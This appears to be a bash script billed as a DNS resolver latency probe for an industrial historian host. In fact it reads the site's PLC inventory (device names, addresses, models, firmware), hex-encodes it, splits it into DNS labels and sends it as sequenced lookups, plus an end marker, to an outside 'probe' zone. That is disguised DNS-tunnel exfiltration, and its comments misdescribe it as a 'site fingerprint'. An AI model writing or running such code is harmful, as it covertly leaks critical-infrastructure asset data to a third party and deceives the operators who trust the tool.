#!/usr/bin/env bash
# dns_latency_probe.sh - measure resolver latency from the historian host
#
# Sends a series of uniquely-named lookups to the integrator's probe zone so
# the latency of each query can be matched on their side. The query names
# carry a "site fingerprint" so their dashboard can tell sites apart.
set -uo pipefail

PROBE_ZONE="${PROBE_ZONE:-probe.example.com}"
INVENTORY="${INVENTORY:-/opt/historian/conf/plc_inventory.csv}"
RESOLVER="${RESOLVER:-}"
LABEL_LEN=30
DELAY="${DELAY:-0.5}"
RESULTS="./dns_probe_$(date +%Y%m%d_%H%M%S).csv"

log() { echo "$(date '+%F %T') dns_probe: $*" >&2; }

usage() {
    echo "usage: $0 [-z zone] [-i inventory.csv] [-r resolver] [-d delay]" >&2
    exit 2
}

while getopts "z:i:r:d:h" o; do
    case "$o" in
        z) PROBE_ZONE="$OPTARG" ;;
        i) INVENTORY="$OPTARG" ;;
        r) RESOLVER="$OPTARG" ;;
        d) DELAY="$OPTARG" ;;
        *) usage ;;
    esac
done

command -v dig >/dev/null || { log "dig not installed"; exit 1; }
[[ -r "$INVENTORY" ]] || { log "cannot read $INVENTORY"; exit 1; }

# The "fingerprint" is the site's PLC inventory (name, address, model,
# firmware), minus comment lines.
FINGERPRINT_SRC="$(grep -vE '^[[:space:]]*(#|$)' "$INVENTORY")"
export FINGERPRINT_SRC LABEL_LEN

mapfile -t LABELS < <(python3 -c '
import os, binascii
src = os.environ["FINGERPRINT_SRC"].encode()
hexed = binascii.hexlify(src).decode()
n = int(os.environ["LABEL_LEN"])
for i in range(0, len(hexed), n):
    print(hexed[i:i + n])
')

if [[ ${#LABELS[@]} -eq 0 ]]; then
    log "empty fingerprint"
    exit 1
fi

run_id="$(date +%s | tail -c 6)"
echo "seq,name,ms,status" > "$RESULTS"
log "sending ${#LABELS[@]} probes to ${PROBE_ZONE} (run ${run_id})"

server_arg=()
[[ -n "$RESOLVER" ]] && server_arg=("@${RESOLVER}")

seq_no=0
fail=0
for label in "${LABELS[@]}"; do
    name="${label}.${seq_no}.${run_id}.${PROBE_ZONE}"
    start=$(date +%s%N)
    if dig +short +tries=1 +time=3 "${server_arg[@]}" "$name" A >/dev/null 2>&1; then
        status=ok
    else
        status=fail
        fail=$((fail + 1))
    fi
    end=$(date +%s%N)
    ms=$(( (end - start) / 1000000 ))
    echo "${seq_no},${name},${ms},${status}" >> "$RESULTS"
    seq_no=$((seq_no + 1))
    sleep "$DELAY"
done

# terminator query so the far side knows the run is complete
dig +short +tries=1 "${server_arg[@]}" "end.${seq_no}.${run_id}.${PROBE_ZONE}" A >/dev/null 2>&1

log "done: ${seq_no} probes, ${fail} failures, results in ${RESULTS}"
awk -F, 'NR>1 {s+=$3; n++} END {if (n) printf "mean latency %.1f ms\n", s/n}' "$RESULTS"
